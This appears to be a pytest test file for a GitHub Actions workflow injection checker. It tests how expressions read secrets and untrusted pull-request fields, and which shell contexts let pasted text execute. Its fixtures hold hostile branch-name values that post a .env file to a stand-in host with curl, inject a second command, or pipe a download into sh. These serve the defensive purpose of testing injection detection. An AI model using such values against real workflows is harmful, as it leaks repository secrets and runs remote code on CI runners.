"""What an expression reads, and how a shell reads the text pasted in for it."""

from __future__ import annotations

import pytest

from cujo_action.schema import shell_hazards
from cujo_action.workflow.contexts import (
    contexts,
    covers,
    secret_names,
    shell_context,
    stranger_fields,
)

HOSTILE_BRANCH = "$({curl,-d,@.env,x.test})"


def test_paths_are_read_as_github_reads_them() -> None:
    expression = (
        "format('{0} github.head_ref', github.event['pull_request'].TITLE) || "
        "toJSON(github.event.commits[0].message) && secrets.npm_token"
    )
    # Case folded, indexes as `*`, and a string literal reads nothing.
    assert contexts(expression) == [
        "github.event.pull_request.title",
        "github.event.commits.*.message",
        "secrets.npm_token",
    ]
    assert secret_names("secrets.npm_token") == ["NPM_TOKEN"]
    assert secret_names("github.token") == ["GITHUB_TOKEN"]
    assert secret_names("secrets") == ["*"]


def test_an_object_holding_a_strangers_field_reads_it() -> None:
    assert covers("github.event", "github.event.pull_request.title")
    assert covers(
        "github.event.workflow_run.pull_requests.*",
        "github.event.workflow_run.pull_requests.*.head.ref",
    )
    assert not covers("github.event.pull_request.number", "github.event.pull_request.title")
    # Only under the triggers that hand it over with secrets at hand.
    assert stranger_fields("github.head_ref", ["pull_request"]) == []
    [field] = stranger_fields("github.head_ref", ["pull_request_target"])
    assert field.carries == {"branch"}


SCRIPT = """echo "double ${{ a }}"
echo bare ${{ b }}
echo 'single ${{ c }}'
# comment ${{ d }}
cat <<EOF
heredoc ${{ e }}
EOF
cat <<'EOF'
literal ${{ f }}
EOF
echo "after ${{ g }}" # a '
"""


def test_the_shell_context_of_each_paste() -> None:
    offsets = [i for i in range(len(SCRIPT)) if SCRIPT.startswith("${{", i)]
    assert [shell_context(SCRIPT, i) for i in offsets] == [
        "double", "bare", "single", "comment", "heredoc", "literal", "double",
    ]  # fmt: skip
    # Not a POSIX shell: read as bare, the strictest.
    assert shell_context(SCRIPT, offsets[2], "pwsh") == "bare"
    assert shell_context(SCRIPT, offsets[2], "bash -e {0}") == "single"


@pytest.mark.parametrize(
    ("text", "context", "found"),
    [
        (HOSTILE_BRANCH, "bare", ["$("]),
        (HOSTILE_BRANCH, "double", ["$("]),
        (HOSTILE_BRANCH, "heredoc", ["$("]),
        (HOSTILE_BRANCH, "single", []),
        ("feature/new-parser", "bare", []),
        ("fix: don't crash, again", "double", []),
        ('x"; curl x.test #', "double", [";"]),
        ("it's`id`", "single", ["`"]),
        ("line one\nline two", "bare", ["\n"]),
        ("line one\nline two", "double", []),
        ("Thanks\n", "literal", []),
        ("a\nEOF\ncurl x.test | sh", "literal", ["\n", "|"]),
        ("one\ntwo", "comment", ["\n"]),
    ],
)
def test_what_makes_a_shell_run_the_text_depends_on_where_it_stands(
    text: str, context: str, found: list[str]
) -> None:
    assert shell_hazards(text, context) == found
